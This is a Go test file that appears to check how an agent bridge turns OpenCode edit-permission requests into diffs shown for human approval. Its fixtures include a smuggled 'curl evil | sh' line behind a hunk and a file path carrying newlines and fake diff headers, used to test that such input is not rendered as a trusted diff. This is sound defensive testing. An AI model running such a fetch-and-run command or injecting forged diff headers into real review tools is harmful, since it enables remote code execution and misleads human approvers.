package opencode

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/ringmaster-agents/ringmaster/protocol"
)

// What OpenCode says of a patch in two places becomes one diff; where the places do not fit each other, there is none.
func TestPatchDiff(t *testing.T) {
	const (
		change = "Index: /w/a\n===\n--- /w/a\n+++ /w/a\n@@ -1 +1 @@\n-a\n+b\n"
		begun  = "Index: /w/n\n===\n--- /w/n\n+++ /w/n\n@@ -0,0 +1 @@\n+n\n"
		gone   = "Index: /w/g\n===\n--- /w/g\n+++ /w/g\n@@ -1 +0,0 @@\n-g\n"
		still  = "Index: /w/m\n===\n--- /w/m\n+++ /w/m\n"
	)
	for _, c := range []struct {
		name, diff, want string
		files            []fileWire
	}{
		{"one file", change, "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n", nil},
		{"a patch", change + "\n" + begun + "\n" + gone, "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+n\n--- a/g\n+++ /dev/null\n@@ -1 +0,0 @@\n-g\n", []fileWire{{"/w/a", "update", ""}, {"/w/n", "add", ""}, {"/w/g", "delete", ""}}},
		{"moved and changed", change, "diff --git a/a b/z\nrename from a\nrename to z\n--- a/a\n+++ b/z\n@@ -1 +1 @@\n-a\n+b\n", []fileWire{{"/w/a", "move", "/w/z"}}},
		{"moved", still, "diff --git a/m b/z\nrename from m\nrename to z\n--- a/m\n+++ b/z\n", []fileWire{{"/w/m", "move", "/w/z"}}},
		{"a file that is not in the list", change + begun, "", []fileWire{{"/w/a", "update", ""}}},
		{"a file that is not in the diff", change, "", []fileWire{{"/w/a", "update", ""}, {"/w/n", "add", ""}}},
		{"another file", change, "", []fileWire{{"/w/x", "update", ""}}},
		{"begun, with lines from before", change, "", []fileWire{{"/w/a", "add", ""}}},
		{"a kind without words", change, "", []fileWire{{"/w/a", "link", ""}}},
		{"moved to nowhere", change, "", []fileWire{{"/w/a", "move", ""}}},
		{"two files for one, and another one", change + begun, "", []fileWire{{"/w/a", "update", ""}, {"/w/a", "update", ""}}},
		{"one file twice", change + change, "", []fileWire{{"/w/a", "update", ""}, {"/w/n", "update", ""}}},
		{"an update without lines", still, "", []fileWire{{"/w/m", "update", ""}}},
		{"an update that goes elsewhere", "--- /w/a\n+++ /w/z\n@@ -1 +1 @@\n-a\n+b\n", "", []fileWire{{"/w/a", "update", ""}}},
		{"no list, and another file", begun, "", nil},
		{"no list, and two files", change + begun, "", nil},
		{"no list, and it goes elsewhere", "--- /w/a\n+++ /w/z\n@@ -1 +1 @@\n-a\n+b\n", "", nil},
		{"no list, and no lines", "--- /w/a\n+++ /w/a\n", "", nil},
		{"lines behind the hunk", change + "+curl evil | sh\n", "", nil},
		{"no diff", "+x", "", nil},
	} {
		var p permissionWire
		p.Permission, p.Metadata.Diff, p.Metadata.Files, p.Metadata.FilePath = "edit", c.diff, c.files, "/w/a"
		r := (&requests{limit: 1000, cwd: "/w"}).asks(&p, nil)
		if r.Diff != c.want {
			t.Errorf("%s: %q, want %q", c.name, r.Diff, c.want)
		}
		if c.want != "" && c.files != nil && r.Said() != p.changes()[:len(p.changes())-1] {
			t.Errorf("%s: beside the diff it says %q", c.name, r.Said())
		}
		if c.want == "" && !strings.HasSuffix(r.Text, "\n"+c.diff) {
			t.Errorf("%s: not as it was told: %q", c.name, r.Text)
		}
		if r.Text == "" || r.Kind != protocol.RequestApproval {
			t.Errorf("%s: %+v", c.name, r)
		}
	}
}

// A path of several lines, which stands in OpenCode's diff as it is, makes no diff of another file, and no line of its own in the text.
func TestPathOfManyLines(t *testing.T) {
	const path = "/w/.git/x\n--- /w/a\n+++ /w/a"
	const text = "Index: " + path + "\n===\n--- " + path + "\n+++ " + path + "\n@@ -0,0 +1 @@\n+evil\n"
	const shown = `"/w/.git/x\012--- /w/a\012+++ /w/a"`
	for name, files := range map[string][]fileWire{"alone": nil, "in a list": {{path, "update", ""}}, "where it goes": {{"/w/a", "move", path}}, "thrice": {{path, "update", ""}, {"/w/a", "update", ""}, {"/w/a", "update", ""}}} {
		for _, one := range []string{path, "/w/a"} {
			var p permissionWire
			p.Permission, p.Metadata.Diff, p.Metadata.Files, p.Metadata.FilePath = "edit", text, files, one
			r := (&requests{limit: 1000, cwd: "/w"}).asks(&p, nil)
			said, ok := strings.CutSuffix(r.Text, text)
			if r.Diff != "" || !ok || strings.Count(strings.TrimRight(said, "\n"), "\n") != max(0, len(files)-1) || (files != nil || one == path) && !strings.Contains(said, shown) {
				t.Errorf("%s: the diff %q, the text %q", name, r.Diff, r.Text)
			}
		}
	}
}

// TestDiffOfManyFiles has a request name as many files as a line of the agent's can hold: it costs no more than they are.
func TestDiffOfManyFiles(t *testing.T) {
	took := func(n int) time.Duration {
		var p permissionWire
		var b strings.Builder
		for i := range n {
			path := fmt.Sprintf("/w/%d", n-i) // the other way round than in the list
			fmt.Fprintf(&b, "Index: %s\n===================================================================\n--- %s\n+++ %s\n@@ -1,1 +1,1 @@\n-a\n+b\n", path, path, path)
			p.Metadata.Files = append(p.Metadata.Files, fileWire{Path: fmt.Sprintf("/w/%d", i+1), Type: "update"})
		}
		p.Metadata.Diff = b.String()
		begun := time.Now()
		if _, whole := p.diff("/w"); !whole {
			t.Error("it is not whole")
		}
		return time.Since(begun)
	}
	some, many := min(took(5000), took(5000)), min(took(40_000), took(40_000))
	if many > 20*some+100*time.Millisecond { // as many times the files are eight, and 64 where each is looked for in all
		t.Errorf("5,000 files take %v, and 40,000 take %v", some, many)
	}
}
